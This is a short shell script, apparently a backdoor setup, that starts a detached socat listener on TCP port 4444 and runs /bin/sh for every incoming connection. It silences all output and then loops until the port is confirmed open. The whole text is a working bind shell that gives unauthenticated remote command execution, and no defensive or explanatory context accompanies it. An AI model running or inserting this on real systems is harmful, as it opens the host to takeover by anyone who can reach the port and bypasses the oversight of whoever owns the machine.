setsid socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh </dev/null >/dev/null 2>&1 9>&- &
door=$!
echo pid $door
for turn in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
    ss -ltn | grep -q :4444 && break
    kill -0 $door || break
    sleep 0.5
done
